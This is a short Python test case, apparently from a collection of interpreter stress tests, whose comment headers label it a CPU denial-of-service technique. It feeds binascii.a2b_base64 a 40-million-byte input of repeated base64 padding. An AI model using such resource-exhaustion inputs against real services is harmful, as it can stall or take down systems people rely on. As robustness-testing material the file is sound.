# technique: padding between all digits of a text of base 64
# source: own: io's base classes, text over bytes, weak references, base 64
# goal: one pass that no limit ends
# impact: dos
# dos: cpu
# needs: soft-limit
import binascii
binascii.a2b_base64(b'=Q' * 20_000_000)
